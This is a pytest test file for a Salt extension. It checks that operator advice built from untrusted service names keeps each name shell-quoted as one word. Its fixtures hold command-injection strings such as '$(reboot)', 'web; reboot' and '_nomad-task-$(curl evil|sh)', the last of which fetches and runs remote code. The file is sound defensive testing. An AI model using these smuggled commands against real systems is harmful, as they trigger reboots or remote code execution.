"""What people are told to copy is one word of a shell, whatever a thing is called."""

from __future__ import annotations

import re
import shlex

import pytest

from saltext.eos.policies.table import TABLE
from saltext.eos.utils import heal_report_explain

NAMES = ["$(reboot)", "`reboot`", "web; reboot", "web'; reboot; '", 'web"', "web && reboot"]


def _advice(policy, name):
    held = {
        "state": "waiting", "why": "complete: it waits",
        "subject": dict.fromkeys(TABLE[policy]["key"], name),
    }  # fmt: skip
    return heal_report_explain._todo(held, policy, [], [])[-1]


@pytest.mark.parametrize("name", NAMES)
@pytest.mark.parametrize("policy", sorted(TABLE))
def test_a_name_from_outside_never_is_a_command(policy, name):
    said = _advice(policy, name)
    assert name not in said.replace(shlex.quote(name), "")


def test_a_command_with_such_a_name_has_it_as_one_word():
    said = _advice("stale_registration", "_nomad-task-$(curl evil|sh)")
    (command,) = re.findall("`(consul services deregister[^`]*)`", said)
    assert shlex.split(command) == [
        "consul", "services", "deregister", "-id=_nomad-task-$(curl evil|sh)",
    ]  # fmt: skip
